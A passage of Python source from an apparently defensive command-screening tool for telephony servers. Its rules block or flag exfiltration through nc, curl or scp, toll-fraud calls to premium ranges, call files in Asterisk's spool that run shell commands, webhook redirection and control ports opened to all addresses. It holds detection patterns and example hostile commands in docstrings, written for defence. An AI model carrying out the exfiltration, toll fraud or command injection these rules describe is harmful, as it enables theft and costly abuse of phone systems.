        for r in reader(cmd.args):
            for u in r.urls:
                host = tt.sink(u.value) if u.value else None
                if host:
                    return host
        return None
    for h in destinations(cmd):
        if h != "?" and (public_ip(h) or tt.sink(h)):
            return h
    return None


def _sent(a, cmd: Cmd) -> None:
    text = input_text(a)
    if cmd.name in ("nc", "ncat", "netcat", "socat", "telnet"):
        _protocol(a, cmd)
    if cmd.name in ("curl", "wget", "http", "https", "xh"):
        _hooks(a, cmd, text)
    got = _feeder_paths(a, cmd) or _own_files(cmd)
    if got is None:
        return
    if cmd.name in ("rsync", "scp"):
        dest = next((h for h in _copy_hosts(cmd) if public_ip(h) or tt.sink(h)), None)
    else:
        dest = _dest(a, cmd, text)
    if dest is None and got[0].startswith("a Twilio API key"):
        from .brokers import destinations
        from .. import brokers_tables as bt

        dest = next((h for h in destinations(cmd) if h != "?" and bt.outsider(h, text)), None)
    if dest is not None:
        a.block("exfiltration", f"`{cmd.name}` sends {got[0]} to {dest}, a bare address, a drop site, a tunnel or a "
                                "messenger's bot rather than a host of the organisation; keep them on its own servers",
                cmd.node)
    elif got[0].startswith("the PBX's configuration"):
        # every password of the PBX on its way to a named host this input cannot vouch for (the recordings and
        # records go to archives of the organisation's by name all the time; its passwords do not)
        far = _named_far(a, cmd)
        if far is not None:
            a.review("exfiltration", f"`{cmd.name}` sends {got[0]} to {far}; a person should confirm that host is the "
                                     "organisation's own", cmd.node)


def _named_far(a, cmd: Cmd) -> str | None:
    """A host `cmd` sends to that is neither this machine, nor one of this network's names, nor a provider's."""
    from .. import mail_tables as mt
    from ..secret_owner import own_network
    from .brokers import destinations
    from .common import ssh_positionals

    if cmd.name == "ssh":
        first = ssh_positionals(cmd.args)[:1]
        hosts = [(first[0].value or "?").rsplit("@", 1)[-1]] if first else []
    else:
        hosts = _copy_hosts(cmd) if cmd.name in ("rsync", "scp") else destinations(cmd)
    for h in hosts:
        if h == "?" or not h or "$" in h:
            continue
        if loopback(h) or own_network(h) or tt.provider_host(h) or not mt.outside(h, set()):
            continue
        return h
    return None


def _copy_hosts(cmd: Cmd) -> list[str]:
    out = []
    for v in cmd.values():
        if v and ":" in v and not v.startswith("-") and not v.startswith("/"):
            host = v.split("@")[-1].split(":")[0] if "://" not in v else (url_host(v) or "")
            if host:
                out.append(host)
    return out


def _hooks(a, cmd: Cmd, text: str) -> None:
    """A request to a provider's API (Twilio's `IncomingPhoneNumbers`, Vonage's account settings, Plivo's
    applications) that hands a number's texts and calls to a host of telecom_tables.sink; a call placed through a
    provider's or ARI's API to a HIGH_RISK number."""
    shown = [_shown(w) for w in cmd.args]
    urls = [t for t in shown if "//" in t]
    if any(_CALL_API.search(u) for u in urls):
        for w, t in zip(cmd.args, shown):
            for m in _CALL_TO.finditer(tt.hook_url(t)):
                hit = _number(a, w.node, m.group(1))
                if hit is not None:
                    fraud_call(a, hit[0], hit[1], f"`{cmd.name}` places a call through the API to", w.node,
                               _in_loop(cmd))
                    return
    if not any(tt.provider_host(url_host(u) or "") for u in urls):
        return
    # (each argument, each `&`-joined field of a body or a URL's query, and a body read from a file this input wrote:
    # `-d @/tmp/body`)
    parts = [(w, f) for w, t in zip(cmd.args, shown) for f in _fields(a, t)]
    for w, t in parts:
        hit = tt.forwarded_to(t) if "=" in t or ":" in t else None
        what = "sets the number to forward its calls to"
        if hit is None and ("Dial" in t or "%3C" in t):  # (`Twiml=<Response><Dial>…` given to a call)
            hit, what = tt.twiml_dialled(t), "has the call forwarded (its TwiML's `<Dial>`) to"
        if hit is not None:
            rule, msg = tt.toll_fraud(hit[0], hit[1], f"`{cmd.name}` {what}")
            a.block(rule, msg, w.node)
            return
    for w, t in parts:
        m = _HOOK_PARAM.match(t)
        found = (m.group(1), tt.sink(tt.hook_url(m.group(2).strip()))) if m is not None else tt.hook_redirect(t)
        if found is not None and found[1] is not None:
            verdict = tt.hook_verdict(found[1], _in_loop(cmd))
            getattr(a, verdict)("exfiltration", tt.hook_message(found[0], found[1], verdict), w.node)
            return


def _fields(a, t: str) -> list[str]:
    """A request argument as the fields it sends: itself, the `&`-joined fields of a form body or of a URL's query
    (`…/account/settings?api_key=K&moCallBackUrl=http://…`), and those of a body file this input wrote (`-d @F`)."""
    out = [t]
    if t[:1] == "@" and len(t) > 1:
        from .written import text_written

        got = text_written(a, t[1:])
        t = got[0] if got is not None else ""
        out.append(t)
    body = t.split("?", 1)[1] if "//" in t and "?" in t else t
    if "&" in body:
        out += [f for f in body.split("&")[:32] if "=" in f]
    return out


def _protocol(a, cmd: Cmd) -> None:
    """Text piped to the manager interface or the event socket (`printf 'Action: Originate…' | nc 127.0.0.1
    5038`, `… api system …`): an ESL `system` judged as the shell command it runs, calls to fraud ranges blocked."""
    from .exec import stdin_text

    # (`nc HOST 5038`, `socat - TCP:HOST:5038`, `ncat HOST:5038`)
    if not any(v is not None and v.rsplit(":", 1)[-1].split(",", 1)[0] in _AMI_PORTS for v in cmd.values()):
        return
    here = stdin_text(a, cmd)
    where = pipeline_stage(cmd) if here is None else None
    # (the stage before, as written: `printf 'Action: Originate\r\n…'`; its escapes separate the lines as well)
    fed = here[0] if here is not None else a.src(where[0][where[1] - 1]) if where is not None and where[1] else None
    if not fed:
        return
    shells, fraud = tt.protocol_finding(fed)
    for shell in shells:
        a.nested(shell, "bash", cmd.node, None)
    if fraud is not None:
        a.block(fraud[0], fraud[1], cmd.node)
    for runner, path in tt.esl_scripts(fed):
        _fs_script(a, f"`{cmd.name}` has FreeSWITCH's event socket run", runner, path, cmd.node)


# -- writes of the PBX's files (bash/admin.py's judge_write asks first) ------------------------------------------------
def _sed_parts(cmd: Cmd, script: str) -> tuple[str, str, list[tuple[str, str]]]:
    from .admin import _deletes_lines
    from .sed import line_edits, substitutions

    subs = substitutions(cmd)
    added = "\n".join([r for _, r in subs] + [t for _, t in line_edits([script])])
    removed = "\n".join([_deletes_lines(cmd) or ""] + [p for p, r in subs if not r.strip()])
    return added, removed, subs


# the commands that put another file's text in place (a copy, a move, a link, an rsync; scp to a PBX's spool)
_COPIERS = frozenset({"cp", "mv", "install", "ln", "rsync", "scp"})


def _fed_files(a, cmd: Cmd) -> list[str]:
    """The files whose text `cmd` writes when it copies one through a reader: `cat F > …`, `cat F | tee …`,
    `tee … < F`, `dd if=F of=…`."""
    from .written import piped_into

    out = [w.value[3:] for w in cmd.args if cmd.name == "dd" and (w.value or "").startswith("if=")]
    if cmd.name == "cat":
        out += [w.value for w in positionals(cmd.args) if w.value and w.value != "-"]
    for r in cmd.redirects:
        if r.type == "file_redirect" and any(c.type == "<" for c in r.children):
            out += [v for d in r.children_by_field_name("destination")[:1] for v in [a.ev.word(d).value] if v]
    if cmd.name in ("tee", "sponge"):
        before = piped_into(a, cmd)
        if before is not None and before.name == "cat":
            out += [w.value for w in positionals(before.args) if w.value and w.value != "-"]
    return out[:8]


def _spool_texts(a, cmd: Cmd, w: Word, text: str | None) -> tuple[list[str], list[str]]:
    """What `cmd` puts in the call spool: (the texts known here, the files it puts there whose text is not): the text
    it writes, or, for a copy, a move, a link or a file read through `cat`/`tee`/`dd`, the text this input wrote to
    its sources earlier (`printf … > /tmp/x.call && mv /tmp/x.call /var/spool/asterisk/outgoing/`, the queueing
    Asterisk's documentation recommends, so that the PBX never reads half a file)."""
    from .written import text_written

    if cmd.name in _COPIERS:
        from .files import copy_sources

        # (the target is left out by its place: `_spool_computed` hands a word of its own for a computed name)
        sources = [src.value if src.value is not None else src.text for src in copy_sources(cmd, w)[:8]
                   if src.node != w.node]
    elif text is not None:
        return [text], []
    else:
        sources = _fed_files(a, cmd)
    known, unknown = [], []
    for src in sources:
        got = text_written(a, src) if "$" not in src and "*" not in src else None
        (known if got is not None else unknown).append(got[0] if got is not None else src)
    return (known, unknown) if sources else ([], ["?"])


# `$NAME`, `${NAME}`, `${NAME:-default}` (the default when the name is not set)
_VAR_REF = re.compile(r"\$(?:\{(\w++)(?::?[-=]([^{}$]*+))?\}|([A-Za-z_]\w*+|\d))")


def _expanded(a, node, text: str, depth: int = 0) -> str:
    """`text` with the variables this input assigned before `node` put in as they were written, each in turn
    (`FWD="+882${NUM}"` then `$FWD` is `+882${NUM}`; `CC=+882; DST=$CC$NUM` then `$DST` is `+882$NUM`): what a number
    built in steps is made of. A variable not assigned here stays as it is."""
    from .common import last_assigned

    if "$" not in text or depth > 3:
        return text
    seen = 0

    def one(m: re.Match) -> str:
        nonlocal seen
        seen += 1
        name = m.group(1) or m.group(3)
        got = last_assigned(a, node, name) if seen <= 16 else None
        if got is None and m.group(2) is not None:
            return m.group(2)
        return _expanded(a, node, got, depth + 1) if got is not None and m.group(0) not in got else m.group(0)

    return _VAR_REF.sub(one, text)


def _number(a, node, text: str, prefixed: bool = False) -> tuple[str, str] | None:
    """The HIGH_RISK number a dial string of the shell calls: as written, or built from the variables this input
    assigned (`_expanded`). (Its `-` separate a list's numbers: FreePBX's follow-me list `1001-0088213370011#`.)"""
    hit = tt.high_risk_in(text, prefixed)
    if hit is None and "$" in text:
        wider = _expanded(a, node, text)
        hit = tt.high_risk_in(wider, prefixed) if wider != text else None
    return hit


def _call_number(a, node, text: str) -> tuple[list[str], tuple[str, str] | None]:
    """tt.call_file of a call file's text, its computed fields read with the variables this input assigned (a
    here-document `Channel: PJSIP/${CC}${N}@trunk` after `CC=00882`)."""
    shells, hit = tt.call_file(text)
    if hit is None and "$" in text:
        hit = next((h for f in tt.call_fields(text) if "$" in f for h in [_number(a, node, f, True)] if h), None)
    return shells, hit


def _call_file(a, cmd: Cmd, w: Word, texts: list[str], unknown: list[str]) -> bool:
    """A call file put in Asterisk's outgoing spool: the PBX places the call (`Channel:`, or `Extension:` once it
    answers, or `Dial`'s `Data:`) at once and runs its application (`Application: System` runs `Data:` as a shell
    command). When the file's own text is not followed here (moved in by a loop's variable or a glob, after a `cd -`,
    a computed name), the call files this input writes anywhere are what it can be: their numbers, or, when their
    numbers are filled in when it runs (`printf 'Channel: PJSIP/%s@trunk…' $n`), the numbers the input writes with an
    international prefix. A file fetched from a bare address or over plain HTTP is a download run by root."""
    from .admin import root_change

    if cmd.name in ("install", "mkdir") and (cmd.name == "mkdir" or has_flag(cmd.args, "d", ("--directory",))):
        if root_change(a, cmd):  # (the spool itself made, as a package's post-install does)
            a.review("system-write", f"`{cmd.name}` makes {tt.CALL_SPOOL}, Asterisk's call spool; root changes the "
                                     "machine: a person should look", w.node)
            return True
        return False
    how = "puts" if cmd.name in _COPIERS else "writes"
    found = [_call_number(a, w.node, t) for t in texts]
    # (a text whose number is filled in when it runs, `printf 'Channel: PJSIP/%s@trunk…' $n` in a loop over the
    # numbers, is read as one not followed)
    if unknown or not any(n for _, n in found) and any("$" in f or "%" in f for t in texts for f in tt.call_fields(t)):
        found.append(tt.calls_in_input(input_text(a)))
        if a.doc.anchor is not None:  # (`sudo sh -c 'cat /tmp/x.call > …'`: the outer script wrote it)
            from ..per_input import decoded

            outer = next((d for d, _ in a.ctx.commands if d.anchor is None), None)
            found += [tt.calls_in_input(decoded(outer.data))] if outer is not None else []
        fetched = next((a.downloaded.strangers[k] for src in unknown for k in [paths.normalize(a.in_cwd(src) or src)]
                        if k in a.downloaded.strangers), None)
        if fetched is not None:
            a.block("download-exec", f"`{cmd.name}` puts a call file fetched from {fetched} into {tt.CALL_SPOOL}: the "
                                     "PBX places its calls and runs its application (`System` runs any command) as "
                                     "soon as it is there; write call files in the project and queue those", w.node)
            return True
    for shells, number in found:
        for shell in shells:
            a.nested(shell, "bash", w.node, None)
        if number is not None:
            fraud_call(a, number[0], number[1], f"`{cmd.name}` {how} a call file that places a call to", w.node,
                       _in_loop(cmd))
            return True
    if root_change(a, cmd):  # (a wake-up or test call placed by root: the PBX's own spool, held like its settings)
        a.review("system-write", f"`{cmd.name}` {how} a call file into {tt.CALL_SPOOL} for the service asterisk, "
                                 "which places the call at once; a person should look", w.node)
        return True
    return False


def config_write(a, cmd: Cmd, w: Word, value: str) -> bool:
    """A write of a PBX's dialplan, of a gateway's configuration or into a folder the PBX runs; True when blocked
    here (its shell commands are judged here too)."""
    from .admin import _fetched_into, _sed_script, written_text

    if not tt.judged_write(value):
        return False
    path = paths.normalize(value)
    if tt.RUN_FOLDER.search(path):
        src = _fetched_into(a, cmd, w)  # (curl -o, wget -O, `| tee`)
        host = url_host(src) if src and "//" in src else None
        if src and host and (tt.sink(src) or src.startswith(("http://", "ftp://"))):
            a.block("download-exec", f"`{cmd.name}` puts a program fetched from {src} into {path}, a folder whose "
                                     "scripts the PBX runs on calls (as its own user); ship AGI and switch scripts "
                                     "with the project and install them from there", w.node)
            return True
        return False
    script = _sed_script(cmd) if cmd.name in ("sed", "gsed") else None
    subs: list[tuple[str, str]] = []
    if script is not None:
        text, removed, subs = _sed_parts(cmd, script)
    else:
        got, removed = written_text(a, cmd, w), ""
        if (path + "/").startswith(tt.CALL_SPOOL):
            return _call_file(a, cmd, w, *_spool_texts(a, cmd, w, got))
        text = got or ""
    if (path + "/").startswith(tt.CALL_SPOOL):
        return _call_file(a, cmd, w, *_spool_texts(a, cmd, w, text))
    for shell in tt.config_commands(text) if path.startswith("/etc/asterisk/") else ():
        a.nested(shell, "bash", w.node, None)
    # (any of Asterisk's files may be `#include`d into the dialplan: one with extensions in it is read as one)
    if tt.dialplan_file(path) or "extensions" in path.rsplit("/", 1)[-1] or \
            path.startswith("/etc/asterisk/") and "exten" in text:
        for shell in tt.dialplan_commands(text):
            a.nested(shell, "bash", w.node, None)
        found = tt.dialplan_finding(text, path)
    else:
        found = tt.config_finding(path, text, removed, subs)
    if found is None and path == "/etc/turnserver.conf":
        from .admin import root_change

        if root_change(a, cmd):  # (coturn's own settings, at /etc's top where admin.app_folder names no service)
            a.review("system-write", f"`{cmd.name}` writes {path} for the service coturn; root changes the machine: "
                                     "a person should look", w.node)
            return True
    if found is None:
        return False
    a.block(found[0], f"`{cmd.name}` writes {path}: {found[1]}", w.node)
    return True


# the writers whose text (or, for copies, whose sources' text) is known here
_SPOOL_WRITERS = ("printf", "echo", "cat", "tee") + tuple(_COPIERS)
_BARE_VAR = re.compile(r"^\$\{?(\w++)\}?$")


def _spool_shape(a, w: Word) -> str | None:
    """The call spool's file a target computed when it runs names (`/var/spool/asterisk/outgoing/c$i.call`, or `"$f"`
    given that path in the loop), `_` for each computed name; None for any other target."""
    from .common import last_assigned
    from .files import run_time_shape

    t = w.text.replace('"', "")
    m = _BARE_VAR.match(t)
    if m is not None:
        t = last_assigned(a, w.node, m.group(1)) or t
    if "outgoing" not in t:
        return None
    shape = run_time_shape(a, Word(w.node, None, t)) if "$" in t or "`" in t else t
    return shape if shape is not None and paths.normalize(shape).startswith(tt.CALL_SPOOL) else None


def _spool_computed(a, cmd: Cmd) -> None:
    """A call file written to a name computed when it runs (`printf … > /var/spool/asterisk/outgoing/c$i.call` in a
    loop): judged as one written by name, which admin.judge_write hands config_write (files.py reads a computed name
    in this folder as no file of the system's own). Its text known: the calls it places and what it runs; not known
    or harmless: root's review, or the block of a write outside the project, as for a name written out."""
    from .files import write_targets

    words = [w for w in write_targets(cmd) if w.value is None] if cmd.name in ("tee",) + tuple(_COPIERS) else []
    for w in write_targets(cmd) if cmd.name in ("scp", "rsync") else ():
        # (`scp /tmp/x.call pbx:/var/spool/asterisk/outgoing/`: the PBX over there places the calls)
        remote = (w.value or "").split(":", 1)[1] if ":" in (w.value or "").split("/", 1)[0] else ""
        if (paths.normalize(remote or "/") + "/").startswith(tt.CALL_SPOOL):
            _call_file(a, cmd, w, *_spool_texts(a, cmd, w, None))
    for w in write_targets(cmd) if cmd.name in _COPIERS and a.cwd and "outgoing" in a.cwd else ():
        # (`cd /var/spool/asterisk/outgoing && sudo mv /tmp/x.call .`: the spool named from where `cd` went)
        there = paths.normalize(a.in_cwd(w.value) or "") if w.value else ""
        if (there + "/").startswith(tt.CALL_SPOOL):
            config_write(a, cmd, Word(w.node, there, w.text), there)
    for r in cmd.redirects:
        if r.type == "file_redirect" and any(c.type in (">", ">>", ">|", "&>", "&>>") for c in r.children):
            dest = r.children_by_field_name("destination")[:1]
            w = a.ev.word(dest[0]) if dest else None
            if w is not None and w.value is None:
                words.append(w)
    for w in words[:4]:
        shape = _spool_shape(a, w)
        if shape is None or config_write(a, cmd, Word(w.node, shape, w.text), shape):
            continue
        from .admin import root_change

        if not root_change(a, cmd):
            a.block("system-write", f"`{cmd.name}` writes {w.text}, a call file in Asterisk's outgoing spool (the PBX "
                                    "places each call at once), outside the project", w.node)


# -- the PBX's CLI run in its container --------------------------------------------------------------------------------
_CONTAINER_TOOLS = frozenset({"docker", "podman", "nerdctl", "kubectl", "oc"})
_PBX_CLIS = frozenset({"asterisk", "fs_cli"})


def _container_pbx(a, cmd: Cmd) -> None:
    """`docker exec asterisk asterisk -rx 'channel originate …'`, `kubectl exec pbx -- fs_cli -x …`: the PBX's CLI
    in its container, judged as it is on this machine; `docker exec pbx sh -c "printf '…' > …/outgoing/x.call"`: the
    call files the shell text writes into the container's spool, judged by the calls they place and what they run."""
    import shlex

    vals = [w.value for w in cmd.args]
    if "exec" not in vals:
        return
    rest = cmd.args[vals.index("exec") + 1:]
    # (the CLI is followed by its options; a container named `asterisk` is followed by the command it runs)
    at = next((i for i, w in enumerate(rest[:-1]) if (w.value or "").rsplit("/", 1)[-1] in _PBX_CLIS and
               (rest[i + 1].value or "")[:1] == "-"), None)
    if at is not None and all(w.value is not None for w in rest[at:]):
        a.nested(shlex.join([w.value for w in rest[at:]]), "bash", cmd.node, None)  # type: ignore[misc]
        return
    script = next((w.value for w in rest if w.value and tt.CALL_SPOOL[:-1] in w.value), None)
    if script is None:
        return
    shells, number = tt.calls_in_input(script)
    for shell in shells:
        a.nested(shell, "bash", cmd.node, None)
    if number is not None:
        fraud_call(a, number[0], number[1], f"`{cmd.name} exec` writes a call file that places a call to", cmd.node,
                   _in_loop(cmd))


# -- the control ports opened to every address -------------------------------------------------------------------------
# the manager interface (5038, 5039 with TLS), the event socket (8021), Kannel's admin and send-SMS ports (13000,
# 13013), Jasmin's management console (8990): each runs calls, commands or texts for whoever logs in
_CONTROL_PORTS = {"5038": "the Asterisk manager interface", "5039": "the Asterisk manager interface (TLS)",
                  "8021": "FreeSWITCH's event socket", "13000": "Kannel's administration port",
                  "13013": "Kannel's send-SMS port", "8990": "Jasmin's management console"}
_IPT = frozenset({"iptables", "ip6tables", "iptables-legacy", "iptables-nft", "ip6tables-legacy", "ip6tables-nft"})
_ANY_SOURCE = frozenset({"0.0.0.0/0", "::/0", "any", "anywhere", "0/0"})


def _opened_port(cmd: Cmd) -> str | None:
    """The control port a firewall rule accepts from every address, else None."""
    vals = [v or "" for v in cmd.values()]
    if cmd.name in _IPT:
        if not any(v in ("-A", "-I", "--append", "--insert") for v in vals) or "ACCEPT" not in vals:
            return None
        src = [w.value for w in option_value(cmd.args, "-s", "--source", "--src")]
        if src and not all(s in _ANY_SOURCE for s in src):
            return None
        # (one interface, a named set or a range of sources is not every address: which it is, a person tells)
        if any(v in ("-i", "--in-interface", "--match-set", "--src-range", "--src-type") for v in vals):
            return None
        ports = [w.value or "" for w in option_value(cmd.args, "--dport", "--dports", "--destination-port")]
        return next((p for ps in ports for p in ps.replace(":", ",").split(",") if p in _CONTROL_PORTS), None)
    if cmd.name == "ufw":
        pos = [v for v in vals if v[:1] != "-"]
        if pos[:1] not in (["allow"], ["insert"]) or "on" in pos:  # (`allow in on wg0`: that interface's only)
            return None
        if "from" in pos and pos[pos.index("from") + 1:pos.index("from") + 2] not in (["any"], ["0.0.0.0/0"], ["::/0"]):
            return None
        spec = pos[pos.index("port") + 1] if "port" in pos and pos.index("port") + 1 < len(pos) else \
            next((p for p in pos[1:] if p[:1].isdigit()), "")
        return next((p for p in spec.split("/")[0].split(",") if p in _CONTROL_PORTS), None)
    if cmd.name == "firewall-cmd":
        # (a zone of its own applies to the sources and interfaces bound to it; the default zone and the public ones
        # to every address)
        zones = [w.value or "?" for w in option_value(cmd.args, "--zone")]
        if any(z not in ("public", "external", "dmz") for z in zones):
            return None
        return next((p for v in vals if v.startswith("--add-port=") for p in [v.split("=", 1)[1].split("/")[0]]
                     if p in _CONTROL_PORTS), None)
    return None


def _firewall(a, cmd: Cmd) -> None:
    port = _opened_port(cmd)
    if port is not None:
        a.block("permission-tamper", f"`{cmd.name}` opens port {port}, {_CONTROL_PORTS[port]}, to every address: "
                                     "whoever reaches it and guesses or holds a login places calls, runs commands or "
                                     "sends texts; allow only the hosts that need it", cmd.node)


_SQL_CLIENTS = frozenset({"psql", "mysql", "mariadb", "sqlite3", "clickhouse-client"})


def _cdr_sql(a, cmd: Cmd) -> None:
    """`mysql … -e "DELETE FROM cdr WHERE calldate < …"`: the PBX's call records deleted (a whole table emptied is
    the SQL rules' own review)."""
    for w in option_value(cmd.args, "-c", "--command", "-e", "--execute", "-q", "--query"):
        why = tt.cdr_deleted(w.value or "")
        if why:
            a.review("irreversible", f"`{cmd.name}` {why}", w.node)
            return
        if tt.trusts_everyone(w.value or ""):
            a.block("permission-tamper", f"`{cmd.name}` adds every address (`0.0.0.0/0`) to Kamailio's `address` "
                                         "table: calls from anywhere then skip authentication; trust the carriers' "
                                         "own addresses", w.node)
            return


HANDLERS: dict = {
    "asterisk": [_pbx_cli], "fs_cli": [_pbx_cli],
    **{n: [_sipvicious] for n in _CRACKERS | _SCANNERS},
    "kamctl": [_kamctl],
    "twilio": [_twilio],
    **{n: [_firewall] for n in _IPT | {"ufw", "firewall-cmd"}},
    **{n: [_cdr_sql] for n in _SQL_CLIENTS},
    **{n: [_sent] for n in NET_SENDERS | {"nc", "ncat", "netcat", "socat", "telnet"}},
}
for _n in _SPOOL_WRITERS:  # (rsync and scp are senders too)
    HANDLERS[_n] = HANDLERS.get(_n, []) + [_spool_computed]
for _n in _CONTAINER_TOOLS:
    HANDLERS[_n] = [_container_pbx]
_spool_screen = mentions("outgoing")
# the PBX's files and records, the providers' hook parameters, a key minted, the AMI/ESL ports
_SENT_RX = re.compile(r"/etc/(?:asterisk|freeswitch|kamailio|opensips|kannel|jasmin|coturn)|turnserver\.conf|"
                      r"/var/spool/(?:asterisk|kannel)|/var/lib/(?:asterisk|freeswitch|kamailio)|/freeswitch/|"
                      r"/var/log/(?:asterisk|jasmin|kannel)|(?i:SmsUrl|VoiceUrl|CallBackUrl|moHttpUrl|CallbackValue|"
                      r"message_url|answer_url|hangup_url|inbound_url|event_url|webhook_url|inboundUrl|eventUrl|"
                      r"answerUrl|messageUrl|InboundRequestUrl|/Calls|/v1/calls|/Call/|/ari/channels)|keys:create|"
                      r"\b(?:5038|8021|5039)\b")
SCREENS: dict = {
    "asterisk": mentions("originate", "database put", "hangup", "core stop", "core restart", "system", "shell",
                         fold=True),
    "fs_cli": mentions("system", "spawn", "originate", "hupall", "lua", "jsrun", "jsapi", "perlrun", "pyrun",
                       "python", "javascript", "perl", fold=True),
    **{n: (lambda text: True) for n in _CRACKERS | _SCANNERS},
    "kamctl": mentions("address add", "trusted add", ".kamctlrc", "MYLIBDIR="),
    **{n: mentions(*_CONTROL_PORTS) for n in _IPT | {"ufw", "firewall-cmd"}},
    **{n: mentions("cdr", "cel", "call_detail_record", "0.0.0.0", fold=True) for n in _SQL_CLIENTS},
    "twilio": mentions(":remove", ":delete", "phone-numbers:remove", "phone-numbers:release", "-url",
                       "--status-callback", "calls:create"),
    **{n: (lambda text: _SENT_RX.search(text) is not None) for n in NET_SENDERS | {"nc", "ncat", "netcat", "socat",
                                                                                   "telnet"}},
}
for _n in _CONTAINER_TOOLS:  # (the PBX's CLI or its spool named in what the container runs)
    SCREENS[_n] = mentions("asterisk", "fs_cli", "outgoing")
for _n in _SPOOL_WRITERS:
    SCREENS[_n] = _spool_screen if _n not in SCREENS else (lambda old: lambda text: old(text) or _spool_screen(text))(
        SCREENS[_n])
